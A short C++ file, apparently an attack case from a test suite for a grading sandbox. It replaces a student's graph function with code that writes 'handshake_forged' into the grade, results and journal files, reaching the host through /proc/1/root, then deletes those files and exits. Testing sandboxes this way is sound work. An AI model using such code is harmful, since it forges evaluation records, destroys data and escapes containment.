// attack: write
// root: host
// what: writes marks, results and the journal, by their paths and through the folders of /proc
// list: 5
// quick: yes
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (const char* folder : {"@OUT@", "/proc/1/root@OUT@", "/proc/1/cwd", ".."}) {
    for (const char* name : {"marks.csv", "private/journal.sqlite", "results.json", "class.html"}) {
      char path[4096];
      snprintf(path, sizeof path, "%s/%s", folder, name);
      if (FILE* file = fopen(path, "w")) fputs("handshake_forged\n", file);
      unlink(path);
    }
  }
  exit(1);
}
